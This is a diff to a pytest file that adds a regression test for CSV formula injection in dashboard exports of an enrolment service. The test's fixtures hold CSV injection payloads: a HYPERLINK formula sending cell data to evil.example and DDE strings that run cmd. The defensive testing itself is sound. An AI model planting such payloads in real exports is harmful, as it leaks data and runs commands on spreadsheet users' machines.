@@ -8,11 +8,13 @@ import io
 import statistics
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
+from urllib.parse import quote
 from zoneinfo import ZoneInfo
 
 import pytest
 
 from api.accounts.rules import Role
+from api.children.models import Child
 from api.enrolments.models import Enrolment
 from api.enrolments.rules import EnrolmentStatus
 from api.outcomes import service as outcomes_service
@@ -307,6 +309,50 @@ def test_csv_export_of_a_table(client, world):
     accepted = get(client, world, world.coordinator, "waitlist", PERIOD, Accept="text/csv")
     assert accepted.mimetype == "text/csv"
     assert next(csv.DictReader(io.StringIO(accepted.get_data(as_text=True))))["waitlisted_now"] == "2"
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_COHORT, HOSTILE_DISTRICT = '=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_MENTORS = ("+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1")
+
+
+def _cells(text):
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+@pytest.mark.parametrize("role", ["coordinator", "commissioner"])
+def test_no_csv_export_holds_a_live_spreadsheet_formula(client, world, role):
+    world.cohort_a.name = HOSTILE_COHORT
+    world.mentor.display_name, world.mentor_two.display_name = HOSTILE_MENTORS[:2]
+    world.programme.districts = [*world.programme.districts, HOSTILE_DISTRICT]
+    for enrolment in world.a:
+        world.db_session.get(Child, enrolment.child_id).district = HOSTILE_DISTRICT  # cohort A moves
+    world.db_session.commit()
+    seen = []
+    for dashboard in DASHBOARDS:
+        for query in (f"{PERIOD}&format=csv", f"{PERIOD}&format=csv&district={quote(HOSTILE_DISTRICT)}"):
+            response = get(client, world, getattr(world, role), dashboard, query)
+            assert response.status_code == 200 and response.mimetype == "text/csv", (dashboard, response.json)
+            text = response.get_data(as_text=True)
+            cells = _cells(text)
+            live = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
+            assert live == [], dashboard
+            # Every field quoted, so a separator or line break in a name cannot start a cell of its own.
+            for line in text.split("\r\n")[:-1]:
+                assert line.startswith('"') and line.endswith('"'), (dashboard, line)
+            seen.extend(cells)
+    assert "'" + HOSTILE_COHORT in seen
+    assert "'" + HOSTILE_DISTRICT in seen
+    if role == "coordinator":
+        assert {"'" + name for name in HOSTILE_MENTORS[:2]} <= set(seen)
+
+
+def _is_number(cell):
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
 
 
 @pytest.mark.parametrize(("active", "shown"), [(4, "<5"), (5, 5), (0, 0)])
